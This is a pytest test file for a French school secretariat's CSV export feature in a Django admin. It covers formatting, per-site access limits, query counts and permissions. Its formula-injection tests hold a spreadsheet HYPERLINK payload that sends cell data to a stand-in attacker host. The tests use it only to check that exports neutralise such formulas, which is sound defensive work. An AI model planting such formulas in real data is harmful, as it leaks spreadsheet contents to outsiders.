"""Exporter en CSV: the secretariat's lists as a file a French spreadsheet opens as is."""

import codecs
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth.models import Permission
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from documents.models import Document
from documents.tests.factories import DocumentFactory, document_type
from extranet.base import exports
from extranet.base.exports import Column, CsvExport, cell
from extranet.shell.management.commands.setup_secretariat_group import setup_secretariat_group
from extranet.tests.factories import (
    PoleFactory,
    SiteFactory,
    StaffUserFactory,
    civility,
    current_season,
    next_season,
    payment_means,
    school_level,
)
from families.models import BillingMode, Family, Guardian, Membership
from families.tests.factories import FamilyFactory, GuardianFactory, guardian_of
from reenrolment.models import Reenrolment, ReenrolmentChoice, ReenrolmentWindow
from reenrolment.tests.factories import ChoiceFactory, NextCourseFactory, ReenrolmentFactory, WindowFactory
from students.models import Enrolment, Student, Weekday
from students.tests.factories import CourseFactory, EnrolmentFactory, SchoolRecordFactory, StudentFactory

pytestmark = pytest.mark.django_db

UTC = datetime.UTC


@pytest.fixture
def malakoff():
    return SiteFactory(name="Malakoff", slug="malakoff")


@pytest.fixture
def clamart():
    return SiteFactory(name="Clamart", slug="clamart")


def secretariat_of(*sites, **kwargs):
    """A site's secretariat: a staff login in the Secrétariat group (view, add, change)."""
    group, _count = setup_secretariat_group()
    user = StaffUserFactory(all_sites=False, managed_sites=list(sites), **kwargs)
    user.groups.add(group)
    return user


@pytest.fixture
def secretariat(client, malakoff):
    client.force_login(secretariat_of(malakoff, first_name="Sophie", last_name="Leroy"))
    return client


def changelist(model) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")


def export(client, model, selected, *, select_across=False, query=""):
    """Post "Exporter en CSV" on ``model``'s list, as the action bar does."""
    data = {"action": "export_csv", "index": "0", ACTION_CHECKBOX_NAME: [obj.pk for obj in selected]}
    if select_across:
        data["select_across"] = "1"
    return client.post(changelist(model) + query, data)


def content(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def table(response) -> list[list[str]]:
    """The rows of the CSV, header first, read the way a spreadsheet reads them."""
    body = content(response)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def today() -> str:
    return f"{timezone.localdate():%Y-%m-%d}"


# ----------------------------------------------------------------------------- each list


def test_the_family_list_exports_for_a_french_spreadsheet(secretariat, malakoff):
    family = FamilyFactory(
        site=malakoff,
        name="DUPONT",
        external_reference="F-0042",
        address="3 rue Pierre Larousse",
        postal_code="92240",
        city="Malakoff",
        billing_mode=BillingMode.THREE,
        payment_means=payment_means("direct_debit"),
        family_quotient=850,
    )
    guardian_of(family, is_payer=True, last_name="Dupont", first_name="Claire", email="claire@example.fr")
    guardian_of(family, last_name="Dupont", first_name="Marc", mobile="0798765432")

    response = export(secretariat, Family, [family])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="familles-malakoff-{today()}.csv"'
    body = content(response)
    assert body.startswith(codecs.BOM_UTF8)
    assert body.count(b"\r\n") == 2 and b"\n" not in body.replace(b"\r\n", b"")
    header, row = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    assert header == [
        "Nom du foyer",
        "Référence dans l'ancien logiciel",
        "Site",
        "Adresse",
        "Code postal",
        "Ville",
        "Mode de facturation",
        "Moyen de paiement",
        "Quotient familial",
        "Payeur",
        "E-mail du payeur",
        "Mobile du payeur",
    ]
    assert row == [
        "DUPONT",
        "F-0042",
        "Malakoff",
        "3 rue Pierre Larousse",
        "92240",
        "Malakoff",
        "En 3 fois – octobre, janvier et avril",
        "Prélèvement bancaire",
        "850",
        "DUPONT Claire",
        "claire@example.fr",
        "06 12 34 56 78",
    ]


def test_a_family_without_payer_or_quotient_has_empty_cells(secretariat, malakoff):
    family = FamilyFactory(site=malakoff, name="SANS PAYEUR", payment_means=None, family_quotient=None)
    guardian_of(family)  # not the payer

    header, row = table(export(secretariat, Family, [family]))

    values = dict(zip(header, row, strict=True))
    assert values["Moyen de paiement"] == values["Quotient familial"] == values["Payeur"] == ""
    assert values["E-mail du payeur"] == values["Mobile du payeur"] == ""


def test_the_guardian_list_exports_civility_families_phones_payer_and_last_login(secretariat, malakoff):
    first = FamilyFactory(site=malakoff, name="MARTIN")
    second = FamilyFactory(site=malakoff, name="DURAND")
    guardian = GuardianFactory(
        site=malakoff,
        civility=civility("mme"),
        last_name="Martin",
        first_name="Claire",
        email="claire.martin@example.fr",
        phone_home="0146000000",
        phone_work="",
        mobile="0612345678",
        city="Vanves",
        user__identifier="claire.martin",
    )
    Membership.objects.create(family=first, guardian=guardian)
    Membership.objects.create(family=second, guardian=guardian, is_payer=True)
    # 8:05 UTC in November is 9:05 in Paris.
    guardian.user.last_login = datetime.datetime(2026, 11, 23, 8, 5, tzinfo=UTC)
    guardian.user.save(update_fields=["last_login"])

    header, row = table(export(secretariat, Guardian, [guardian]))

    assert header == [
        "Civilité",
        "Nom",
        "Prénom",
        "Familles",
        "E-mail",
        "Téléphone domicile",
        "Téléphone professionnel",
        "Mobile (SMS)",
        "Ville",
        "Payeur",
        "Identifiant",
        "Dernière connexion",
    ]
    assert row == [
        "Madame",
        "Martin",
        "Claire",
        "DURAND / MARTIN",
        "claire.martin@example.fr",
        "01 46 00 00 00",
        "",
        "06 12 34 56 78",
        "Vanves",
        "oui",
        "claire.martin",
        "23/11/2026 09:05",
    ]


def test_a_guardian_who_pays_for_no_family_is_exported_as_non(secretariat, malakoff):
    guardian = guardian_of(FamilyFactory(site=malakoff))

    header, row = table(export(secretariat, Guardian, [guardian]))

    values = dict(zip(header, row, strict=True))
    assert values["Payeur"] == "non"
    assert values["Dernière connexion"] == ""


def test_the_pupil_list_exports_birth_date_next_school_level_image_rights_and_current_courses(
    secretariat, malakoff
):
    family = FamilyFactory(site=malakoff, name="DUPONT")
    pupil = StudentFactory(
        family=family,
        last_name="Dupont",
        first_name="Léa",
        birth_date=datetime.date(2015, 3, 4),
        image_rights=True,
    )
    SchoolRecordFactory(student=pupil, season=current_season(), school_level=school_level("ce2"))
    SchoolRecordFactory(student=pupil, season=next_season(), school_level=school_level("cm1"))
    pole = PoleFactory(site=malakoff)
    for name in ("Piano cycle 1", "Chœur d'enfants"):
        EnrolmentFactory(student=pupil, course=CourseFactory(pole=pole, name=name))
    EnrolmentFactory(
        student=pupil, course=CourseFactory(pole=pole, name="Danse"), status=Enrolment.Status.STOPPED
    )
    EnrolmentFactory(student=pupil, course=NextCourseFactory(pole=pole, name="Violon"))
    undecided = StudentFactory(family=family, last_name="Dupont", first_name="Théo", image_rights=None)

    header, *rows = table(export(secretariat, Student, [pupil, undecided]))

    assert header == [
        "Nom",
        "Prénom",
        "Date de naissance",
        "Famille",
        "Niveau scolaire de la saison à venir",
        "Droit à l'image",
        "Cours de la saison en cours",
    ]
    assert rows == [
        ["Dupont", "Léa", "04/03/2015", "DUPONT", "CM1", "oui", "Chœur d'enfants / Piano cycle 1"],
        ["Dupont", "Théo", "14/03/2015", "DUPONT", "", "", ""],
    ]


def test_the_enrolment_list_exports_course_pole_teacher_timetable_and_status(secretariat, malakoff):
    pupil = StudentFactory(
        family=FamilyFactory(site=malakoff, name="DUPONT"), last_name="Dupont", first_name="Léa"
    )
    course = CourseFactory(
        pole=PoleFactory(site=malakoff, name="Pôle Centre"),
        name="Piano cycle 1",
        teacher_name="Mme Durand",
        weekday=Weekday.WEDNESDAY,
        starts_at=datetime.time(14, 0),
        ends_at=datetime.time(15, 0),
        room="Salle 3",
    )
    enrolment = EnrolmentFactory(student=pupil, course=course, status=Enrolment.Status.STOPPED)

    header, row = table(export(secretariat, Enrolment, [enrolment]))

    assert header == ["Élève", "Famille", "Saison", "Cours", "Pôle", "Professeur", "Horaire", "État"]
    assert row == [
        "DUPONT Léa",
        "DUPONT",
        "2025/2026",
        "Piano cycle 1",
        "Pôle Centre",
        "Mme Durand",
        "mercredi 14:00–15:00, Salle 3",
        "arrêté",
    ]


def test_the_dossier_list_exports_state_dates_courses_waitlist_and_information(secretariat, malakoff):
    window = WindowFactory(site=malakoff)
    pupil = StudentFactory(
        family=FamilyFactory(site=malakoff, name="DUPONT"), last_name="Dupont", first_name="Léa"
    )
    dossier = ReenrolmentFactory(
        window=window,
        student=pupil,
        state=Reenrolment.State.WAITLISTED,
        # Summer time: 21:30 UTC is 23:30 in Paris.
        submitted_at=datetime.datetime(2026, 5, 4, 21, 30, tzinfo=UTC),
        complete_at=datetime.datetime(2026, 5, 6, 7, 0, tzinfo=UTC),
        information="Arrêt de la formation musicale ; essai du violon\nMerci",
        house_rules_version="2026-2",
    )
    pole = PoleFactory(site=malakoff)
    ChoiceFactory(
        reenrolment=dossier,
        course=NextCourseFactory(pole=pole, name="Piano cycle 2"),
        state=ReenrolmentChoice.State.ACCEPTED,
    )
    ChoiceFactory(
        reenrolment=dossier,
        course=NextCourseFactory(pole=pole, name="Violon"),
        state=ReenrolmentChoice.State.WAITLISTED,
        waitlist_position=2,
        preference=2,
    )

    header, row = table(export(secretariat, Reenrolment, [dossier]))

    assert header == [
        "Élève",
        "Famille",
        "Site",
        "Saison visée",
        "État",
        "Réinscription administrative",
        "Envoyée le",
        "Dossier complet le",
        "Cours demandés",
        "Rang en liste d'attente",
        "Information complémentaire",
        "Version du règlement accepté",
    ]
    assert row == [
        "DUPONT Léa",
        "DUPONT",
        "Malakoff",
        "2026/2027",
        "en liste d'attente",
        "non",
        "04/05/2026 23:30",
        "06/05/2026 09:00",
        "Piano cycle 2 / Violon",
        "Violon (attente n° 2)",
        "Arrêt de la formation musicale ; essai du violon\nMerci",
        "2026-2",
    ]


def test_the_document_list_exports_size_in_mo_state_checker_and_refusal_reason(secretariat, malakoff):
    checker = StaffUserFactory(first_name="Sophie", last_name="Leroy")
    family = FamilyFactory(site=malakoff, name="DUPONT")
    pupil = StudentFactory(family=family, last_name="Dupont", first_name="Léa")
    refused = DocumentFactory(
        family=family,
        student=pupil,
        document_type=document_type("certificat-medical-danse"),
        original_name="certificat.pdf",
        uploaded_at=datetime.datetime(2026, 11, 23, 13, 5, tzinfo=UTC),
        size=1_572_864,
        state=Document.State.REFUSED,
        refusal_reason="Le certificat n'est pas signé.",
        checked_by=checker,
    )
    waiting = DocumentFactory(family=family, original_name="quotient.pdf", size=10_485)

    header, *rows = table(export(secretariat, Document, [refused, waiting], query="?state=all"))
    rows = sorted(rows, key=lambda row: row[3])  # by file name

    assert header == [
        "Famille",
        "Élève",
        "Type",
        "Nom du fichier",
        "Fourni le",
        "Taille (Mo)",
        "État",
        "Vérifié par",
        "Motif du refus",
    ]
    assert rows[0] == [
        "DUPONT",
        "DUPONT Léa",
        "Certificat médical (danse)",
        "certificat.pdf",
        "23/11/2026 14:05",
        "1,50",
        "Refusé",
        "Sophie Leroy",
        "Le certificat n'est pas signé.",
    ]
    assert rows[1][1] == "" and rows[1][5] == "0,01" and rows[1][6] == "Fourni" and rows[1][7] == ""


# ----------------------------------------------------------------------------- what is exported


def test_only_the_selected_rows_are_exported(secretariat, malakoff):
    chosen, other = FamilyFactory(site=malakoff, name="CHOISIE"), FamilyFactory(site=malakoff, name="AUTRE")

    header, *rows = table(export(secretariat, Family, [chosen]))

    assert [row[0] for row in rows] == ["CHOISIE"]
    assert other.name not in {row[0] for row in rows}


def test_select_all_exports_the_filtered_list_in_its_order(secretariat, malakoff):
    direct_debit = payment_means("direct_debit")
    for name in ("BERNARD", "ARNAUD"):
        FamilyFactory(site=malakoff, name=name, payment_means=direct_debit)
    cheque = FamilyFactory(site=malakoff, name="CHEQUE")

    rows = table(
        export(
            secretariat,
            Family,
            [cheque],
            select_across=True,
            query=f"?payment_means__id__exact={direct_debit.pk}",
        )
    )

    assert [row[0] for row in rows[1:]] == ["ARNAUD", "BERNARD"]


def test_a_malakoff_secretariat_exporting_all_families_gets_only_malakoff(client, malakoff, clamart):
    ours = [FamilyFactory(site=malakoff, name=f"MALAKOFF {n}") for n in range(3)]
    FamilyFactory(site=clamart, name="CLAMART 1")
    client.force_login(secretariat_of(malakoff))

    response = export(client, Family, ours[:1], select_across=True)

    assert response["Content-Disposition"] == f'attachment; filename="familles-malakoff-{today()}.csv"'
    rows = table(response)[1:]
    assert sorted(row[0] for row in rows) == ["MALAKOFF 0", "MALAKOFF 1", "MALAKOFF 2"]
    assert {row[2] for row in rows} == {"Malakoff"}


def test_another_sites_rows_cannot_be_exported_by_their_id(client, malakoff, clamart):
    theirs = FamilyFactory(site=clamart, name="CLAMART 1")
    client.force_login(secretariat_of(malakoff))

    response = export(client, Family, [theirs])

    assert table(response)[1:] == []


def test_staff_of_several_sites_get_a_file_named_for_every_site(client, malakoff, clamart):
    FamilyFactory(site=malakoff, name="MALAKOFF")
    theirs = FamilyFactory(site=clamart, name="CLAMART")
    client.force_login(secretariat_of(malakoff, clamart))

    response = export(client, Family, [theirs], select_across=True)

    assert response["Content-Disposition"] == f'attachment; filename="familles-tous-sites-{today()}.csv"'
    assert sorted(row[0] for row in table(response)[1:]) == ["CLAMART", "MALAKOFF"]


def test_central_staff_file_is_named_for_every_site(client, malakoff):
    family = FamilyFactory(site=malakoff)
    client.force_login(StaffUserFactory(all_sites=True, is_superuser=True))

    response = export(client, Family, [family])

    assert response["Content-Disposition"] == f'attachment; filename="familles-tous-sites-{today()}.csv"'


# ----------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez")', "+33 6 12", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Dupont", "Dupont"),
        ("a=b", "a=b"),
        (Decimal("-12.50"), "-12,50"),
        (-3, "-3"),
        (0.5, "0,5"),
        (True, "oui"),
        (False, "non"),
        (None, ""),
        (datetime.date(2026, 1, 5), "05/01/2026"),
        (["Piano", "", "Chœur"], "Piano / Chœur"),
        (["=1+1", "Chœur"], "'=1+1 / Chœur"),
    ],
)
def test_other_values_are_shown_the_french_way_untouched(value, shown):
    assert cell(value) == shown


def test_a_family_name_typed_as_a_formula_is_exported_as_text(secretariat, malakoff):
    typed = '=HYPERLINK("http://pirate.example/?d="&A1;"Cliquez ici")'
    family = FamilyFactory(site=malakoff, name=typed, city="-Malakoff")

    header, row = table(export(secretariat, Family, [family]))

    values = dict(zip(header, row, strict=True))
    assert values["Nom du foyer"] == "'" + typed
    assert values["Ville"] == "'-Malakoff"


# ----------------------------------------------------------------------------- declaring columns


def test_a_many_valued_path_is_refused_with_a_hint_to_prefetch():
    with pytest.raises(ImproperlyConfigured, match="prefetch_related"):
        CsvExport(["families__name"], filename="responsables").bind(Guardian)


def test_a_misspelt_path_is_refused():
    with pytest.raises(ImproperlyConfigured, match="famly"):
        CsvExport(["famly__name"], filename="eleves").bind(Student)


def test_a_column_read_by_a_callable_needs_a_header():
    with pytest.raises(ImproperlyConfigured):
        Column(lambda student: student.pk)


# ----------------------------------------------------------------------------- cost


def _family_row(site):
    family = FamilyFactory(site=site)
    guardian_of(family, is_payer=True)
    return family


def _guardian_row(site):
    guardian = guardian_of(FamilyFactory(site=site), is_payer=True, civility=civility("m"))
    Membership.objects.create(family=FamilyFactory(site=site), guardian=guardian)
    return guardian


def _student_row(site):
    pupil = StudentFactory(family__site=site)
    SchoolRecordFactory(student=pupil, season=next_season(), school_level=school_level("cm1"))
    EnrolmentFactory(student=pupil, course__pole__site=site)
    return pupil


def _enrolment_row(site):
    return EnrolmentFactory(student__family__site=site, course__pole__site=site)


def _dossier_row(site):
    window = ReenrolmentWindow.objects.filter(site=site).first() or WindowFactory(site=site)
    choice = ChoiceFactory(reenrolment__window=window, course__pole__site=site)
    ChoiceFactory(reenrolment=choice.reenrolment, course__pole__site=site)
    return choice.reenrolment


def _document_row(site):
    return DocumentFactory(
        family__site=site, student=StudentFactory(family__site=site), checked_by=StaffUserFactory()
    )


# Queries of one export, whatever the number of rows (up to CHUNK_SIZE): the site's slug for
# the file name, the rows with their related objects, one per prefetch.
COSTS = [
    (Family, _family_row, 3),  # + the payers
    (Guardian, _guardian_row, 3),  # + the memberships with their families
    (Student, _student_row, 4),  # + next season's school records, current enrolments
    (Enrolment, _enrolment_row, 2),
    (Reenrolment, _dossier_row, 5),  # + choices, their courses and pôles (the admin's own prefetch)
    (Document, _document_row, 2),
]


@pytest.mark.parametrize(("model", "make_row", "queries"), COSTS, ids=[cost[0].__name__ for cost in COSTS])
def test_an_export_costs_the_same_queries_for_1_or_20_rows(
    model, make_row, queries, malakoff, django_assert_num_queries
):
    model_admin = admin.site.get_model_admin(model)
    request = RequestFactory().post(changelist(model))
    request.user = secretariat_of(malakoff)
    action = model_admin.get_actions(request)["export_csv"][0]
    make_row(malakoff)
    for count in (1, 20):
        while model.objects.count() < count:
            make_row(malakoff)
        queryset = model_admin.get_queryset(request)
        with django_assert_num_queries(queries):
            body = b"".join(action(model_admin, request, queryset).streaming_content)
        assert body.count(b"\r\n") == count + 1


def test_a_long_list_is_streamed_in_pieces_with_one_prefetch_per_chunk(
    malakoff, monkeypatch, django_assert_num_queries
):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)
    monkeypatch.setattr(exports, "ROWS_PER_WRITE", 3)
    names = sorted(_family_row(malakoff).name for _ in range(7))
    model_admin = admin.site.get_model_admin(Family)
    request = RequestFactory().post(changelist(Family))
    request.user = secretariat_of(malakoff)
    queryset = model_admin.get_queryset(request)

    response = model_admin.get_actions(request)["export_csv"][0](model_admin, request, queryset)
    # The families, and their payers by chunks of 4 families: 4 + 3.
    with django_assert_num_queries(1 + 2):
        pieces = list(response.streaming_content)

    assert len(pieces) == 1 + 3  # the header, then rows by 3: 3 + 3 + 1
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == names
    assert all(row[9] for row in rows[1:])  # every payer found, across chunks


def test_exporting_through_the_admin_costs_the_same_for_1_or_20_families(
    client, malakoff, django_assert_num_queries
):
    client.force_login(secretariat_of(malakoff))
    first = _family_row(malakoff)
    content(export(client, Family, [first], select_across=True))  # the session's first request
    with CaptureQueriesContext(connection) as one:
        content(export(client, Family, [first], select_across=True))
    for _ in range(19):
        _family_row(malakoff)
    with django_assert_num_queries(len(one.captured_queries)):
        body = content(export(client, Family, [first], select_across=True))
    assert body.count(b"\r\n") == 21


# ----------------------------------------------------------------------------- who may export


def test_staff_who_may_only_view_families_are_offered_the_export_and_can_run_it(client, malakoff):
    family = FamilyFactory(site=malakoff, name="DUPONT")
    viewer = StaffUserFactory(all_sites=False, managed_sites=[malakoff])
    viewer.user_permissions.set(Permission.objects.filter(codename="view_family"))
    client.force_login(viewer)

    page = client.get(changelist(Family))
    offered = dict(page.context["action_form"].fields["action"].choices)

    assert offered["export_csv"] == "Exporter en CSV"
    assert table(export(client, Family, [family]))[1][0] == "DUPONT"


def test_staff_who_may_only_view_dossiers_can_export_but_not_decide(client, malakoff):
    viewer = StaffUserFactory(all_sites=False, managed_sites=[malakoff])
    viewer.user_permissions.set(Permission.objects.filter(codename="view_reenrolment"))
    client.force_login(viewer)

    offered = dict(client.get(changelist(Reenrolment)).context["action_form"].fields["action"].choices)

    assert "export_csv" in offered
    assert "validate_selected" not in offered


def test_staff_without_view_permission_cannot_export(client, malakoff):
    family = FamilyFactory(site=malakoff, name="DUPONT")
    outsider = StaffUserFactory(all_sites=False, managed_sites=[malakoff])
    outsider.user_permissions.set(Permission.objects.filter(codename="view_student"))
    client.force_login(outsider)

    response = export(client, Family, [family], select_across=True)

    assert response.status_code == 403
    assert b"DUPONT" not in response.content


@pytest.mark.parametrize("model", [Family, Guardian, Student, Enrolment, Reenrolment, Document])
def test_the_secretariat_group_is_offered_the_export_on_every_list(secretariat, model):
    offered = dict(secretariat.get(changelist(model)).context["action_form"].fields["action"].choices)

    assert offered["export_csv"] == "Exporter en CSV"
